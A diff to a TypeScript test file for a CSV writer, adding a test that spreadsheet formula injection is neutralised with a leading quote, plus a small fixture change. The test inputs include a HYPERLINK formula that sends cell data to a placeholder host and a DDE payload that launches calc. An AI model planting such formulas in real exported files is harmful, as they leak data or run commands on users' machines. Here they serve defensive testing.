@@ -21,6 +21,21 @@ describe("CSV writer (RFC 4180)", () => {
     expect(csvField(" padded ")).toBe('" padded "');
   });
 
+  it("neutralises text a spreadsheet would run as a formula (=, +, -, @, tab, CR first) with a leading single quote (OWASP)", () => {
+    expect(csvField("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")")).toBe('"\'=HYPERLINK(""http://x.example/?""&A1,""click"")"');
+    expect(csvField("+81 3 1234")).toBe("'+81 3 1234");
+    expect(csvField("-2+3")).toBe("'-2+3");
+    expect(csvField("@SUM(A1:A9)")).toBe("'@SUM(A1:A9)");
+    expect(csvField("\t=1+1")).toBe("'\t=1+1");
+    expect(csvField("\r=1+1")).toBe('"\'\r=1+1"');
+    // Inside the text, or numbers we wrote ourselves, are left alone.
+    expect(csvField("a=b")).toBe("a=b");
+    expect(csvField(-3)).toBe("-3");
+    expect(csvField("2026-04-01T09:00:00+09:00")).toBe("2026-04-01T09:00:00+09:00");
+    const csv = toCsv(["title"], [{ title: "=cmd|' /C calc'!A0" }]);
+    expect(csv).toBe(`${BOM}title\r\n'=cmd|' /C calc'!A0\r\n`);
+  });
+
   it("starts with a UTF-8 BOM, has a header row and CRLF record ends", () => {
     const csv = toCsv(["ref", "title", "count"], [
       { ref: "2026-0001", title: 'Leak, "staff"\nportal', count: 3 },
@@ -94,6 +109,7 @@ describe("export document and files", () => {
       period: { from: "2026-04-01", to: "2027-03-31", timezone: TZ, start: "2026-04-01T00:00:00+09:00", end: "2027-04-01T00:00:00+09:00", note: "" },
       profile: { id: "ppc-nisc-2023", title: "覚書", signedOn: "2023-03-24" },
       parties: [{ id: "ppc", designation: "甲", name: "個人情報保護委員会", short: "個情委" }],
+      access: { requester: "operator", withheld: 0, note: "" },
       auditChain: { verified: true, entries: 3, lastHash: "abc" },
     },
     [section("incidents", "Incidents", ["ref", "title"], [{ ref: "2026-0001", title: "A", extra: "dropped" }, { ref: "2026-0002" }])],
